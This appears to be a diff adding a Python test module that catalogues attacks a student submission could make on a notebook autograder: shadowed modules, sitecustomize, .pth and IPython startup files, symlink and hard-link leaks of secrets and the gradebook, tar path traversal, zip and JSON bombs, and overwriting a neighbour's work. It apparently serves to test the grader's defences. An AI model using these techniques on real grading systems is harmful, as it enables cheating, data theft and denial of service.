@@ -1,0 +1,265 @@
+"""Files beside the notebook, or instead of it, and places from which Python and IPython load code."""
+
+import json
+import os
+import socket
+import zipfile
+
+from . import Attack
+
+KIND = "Files and imports"
+
+
+def beside(**files):
+    """A change that puts files beside the notebook; in their names __ stands for the dot."""
+
+    def change(notebook, folder, place):
+        for name, text in files.items():
+            (folder / name.replace("__", ".")).write_text(text.replace("LOOT", str(place.loot)))
+
+    return change
+
+
+def instead(make):
+    """A change that puts something else where the notebook should be: `make(path, folder, place)`."""
+
+    def change(notebook, folder, place):
+        notebook.clear()
+        make(folder / "padding.ipynb", folder, place)
+
+    return change
+
+
+def wrote(name: str) -> str:
+    """Source of a module that leaves a file outside."""
+    return f"open('LOOT/eve-{name}', 'w')\n"
+
+
+def link_secret(notebook, folder, place):
+    (folder / "notes.txt").symlink_to(place.home / "secret.txt")
+    (folder / "folder").symlink_to(place.home)
+    (folder / "neighbour.txt").symlink_to("../../ada/1-padding/padding.ipynb")
+
+
+def hard_link_secret(notebook, folder, place):
+    os.link(place.home / "secret.txt", folder / "notes.txt")
+    os.link(place.course / "gradebook.db", folder / "mine.db")
+
+
+def listening_socket(notebook, folder, place):
+    # The path of a socket is short.
+    here = os.open(folder, os.O_RDONLY)
+    with socket.socket(socket.AF_UNIX) as one:
+        one.bind(f"/proc/self/fd/{here}/data.sock")
+    os.close(here)
+
+
+def bomb_archive(notebook, folder, place):
+    with zipfile.ZipFile(folder / "data.zip", "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("../../ada/1-padding/padding.ipynb", "{}")
+        archive.writestr("/" + str(place.loot / "eve-archive").lstrip("/"), "out")
+        archive.writestr("zeros", bytes(10**7))
+
+
+def nested(depth: int) -> str:
+    return "[" * depth + "]" * depth
+
+
+ATTACKS = [
+    Attack(
+        "numpy-py",
+        "a numpy.py beside the notebook",
+        "numpy.py",
+        "effect",
+        change=beside(numpy__py=wrote("numpy-py") + "raise ImportError\n"),
+        honest=4,
+        exactly=False,
+    ),
+    Attack(
+        "random-py",
+        "a random.py beside the notebook, which wins over the standard library's",
+        "random.py",
+        "effect",
+        cell="import sys\nsys.modules.pop('random')\nimport random",
+        change=beside(random__py=wrote("random-py")),
+    ),
+    Attack(
+        "conftest-py",
+        "a conftest.py, pytest.ini, setup.cfg and nbgrader_config.py beside the notebook",
+        "conftest.py",
+        "nobody runs pytest or nbgrader in a student's folder",
+        change=beside(
+            conftest__py=wrote("conftest-py"),
+            pytest__ini="[pytest]\n",
+            nbgrader_config__py=wrote("conftest-py"),
+            jupyter_config__py=wrote("conftest-py"),
+            ipython_config__py=wrote("conftest-py"),
+        ),
+    ),
+    Attack(
+        "own-autograde-tests",
+        "an autograde_tests/ beside the notebook, which gives full points",
+        "autograde_tests/ beside the notebook",
+        "points",
+        change=lambda notebook, folder, place: (
+            (folder / "autograde_tests").mkdir(),
+            (folder / "autograde_tests" / "__init__.py").write_text("check = lambda name, function, points: points\n"),
+        ),
+    ),
+    Attack(
+        "sitecustomize",
+        "a sitecustomize.py in the course's folder, for every Python that starts there afterwards",
+        "sitecustomize",
+        "effect",
+        cell="open(f'{COURSE}/sitecustomize.py', 'w').write(f\"open({LOOT + '/' + ME!r}, 'w')\")",
+        alone=True,
+    ),
+    Attack(
+        "pth",
+        "a .pth file in the environment's site-packages",
+        ".pth",
+        "it would stay in the environment that all share",
+        cell="import site\nfor folder in site.getsitepackages():\n    open(f'{folder}/{TAG}.pth', 'w').write('# ' + TAG)",
+    ),
+    Attack(
+        "ipython-startup",
+        "a start-up file for every IPython kernel of the instructor",
+        "IPython start-up files",
+        "effect",
+        cell="""
+import os
+folder = f'{HOME}/.ipython/profile_default/startup'
+os.makedirs(folder, exist_ok=True)
+open(f'{folder}/00.py', 'w').write(f"open({LOOT + '/' + ME!r}, 'w')")
+""",
+        alone=True,
+    ),
+    Attack(
+        "symlink",
+        "links to the home folder and to a neighbour's work, handed in as files",
+        "symlinks",
+        "leak",
+        change=link_secret,
+        cell="""
+for name in ('notes.txt', 'folder/secret.txt', 'neighbour.txt'):
+    try:
+        show(open(name).read())
+    except OSError:
+        pass
+""",
+    ),
+    Attack(
+        "symlinked-notebook",
+        "the notebook itself is a link to a neighbour's",
+        "symlinks",
+        "points",
+        change=instead(lambda path, folder, place: path.symlink_to("../../ada/1-padding/padding.ipynb")),
+        honest=0,
+        exactly=False,
+    ),
+    Attack(
+        "hard-link",
+        "hard links to a secret and to the gradebook, handed in as files",
+        "hard links",
+        "leak",
+        change=hard_link_secret,
+        cell="show(open('notes.txt').read())\nshow(open('mine.db', errors='replace').read())\nopen('mine.db', 'w').write('gone')",
+    ),
+    Attack(
+        "archive",
+        "an archive with ../ and absolute paths beside the notebook, unpacked by the submission",
+        "path traversal in archives, zip bombs",
+        "Python's zipfile drops ../ by itself; tarfile is the one that writes where it is told",
+        change=bomb_archive,
+        cell="import zipfile\nzipfile.ZipFile('data.zip').extractall('.')",
+    ),
+    Attack(
+        "tar-traversal",
+        "a tar archive that unpacks into a neighbour's folder and outside",
+        "path traversal in archives",
+        "effect",
+        cell="""
+import io, tarfile
+raw = io.BytesIO()
+with tarfile.open(fileobj=raw, mode='w') as archive:
+    for name in (f'{LOOT}/{ME}', f'{COURSE}/submitted/ada/1-padding/{ME}.txt'):
+        archive.addfile(tarfile.TarInfo(name))
+raw.seek(0)
+tarfile.open(fileobj=raw).extractall('/', filter='fully_trusted')
+""",
+    ),
+    Attack(
+        "fifo",
+        "a FIFO beside the notebook: who opens it waits for ever",
+        "FIFOs",
+        "page",
+        change=lambda notebook, folder, place: os.mkfifo(folder / "data.csv"),
+    ),
+    Attack(
+        "fifo-notebook",
+        "a FIFO instead of the notebook",
+        "FIFOs",
+        "stops",
+        change=instead(lambda path, folder, place: os.mkfifo(path)),
+        honest=0,
+        alone=True,
+    ),
+    Attack("socket", "a Unix socket beside the notebook", "sockets", "page", change=listening_socket),
+    Attack(
+        "device-link",
+        "a link to /dev/zero beside the notebook: who copies it never ends",
+        "symlinks, disk",
+        "it would fill the disk",
+        change=lambda notebook, folder, place: (folder / "data.bin").symlink_to("/dev/zero"),
+    ),
+    Attack(
+        "folder-notebook",
+        "a folder named padding.ipynb",
+        "symlinks",
+        "page",
+        change=instead(lambda path, folder, place: path.mkdir()),
+        honest=0,
+    ),
+    Attack(
+        "json-bomb",
+        "JSON nested 100,000 deep",
+        "JSON bombs",
+        "page",
+        change=instead(lambda path, folder, place: path.write_text(nested(100_000))),
+        honest=0,
+    ),
+    Attack(
+        "json-numbers",
+        "numbers that are none: NaN, 1e999, and an integer of 5,000 digits",
+        "JSON bombs",
+        "page",
+        change=instead(lambda path, folder, place: path.write_text('{"cells": [NaN, 1e999, ' + "9" * 5000 + "]}")),
+        honest=0,
+    ),
+    Attack(
+        "notebook-bomb",
+        "metadata nested 600 deep in an otherwise right notebook",
+        "notebook bombs",
+        "page",
+        change=lambda notebook, folder, place: notebook.metadata.update(deep=json.loads(nested(600))),
+        exactly=False,
+    ),
+    Attack(
+        "many-cells",
+        "a notebook of 20,000 empty Markdown cells and a line of 5 million characters",
+        "notebook bombs",
+        "it costs stock nbgrader minutes, not points",
+        change=lambda notebook, folder, place: notebook.cells.extend(
+            [{"cell_type": "markdown", "id": f"m{n}", "metadata": {}, "source": ""} for n in range(20_000)]
+            + [{"cell_type": "markdown", "id": "long", "metadata": {}, "source": "x" * 5_000_000}]
+        ),
+    ),
+    Attack(
+        "writes-neighbour",
+        "writes a neighbour's submission, which is graded later",
+        "other students, racing",
+        "stops",
+        cell="open(f'{COURSE}/submitted/zoe/1-padding/padding.ipynb', 'w').write('{}')",
+        alone=True,
+    ),
+]
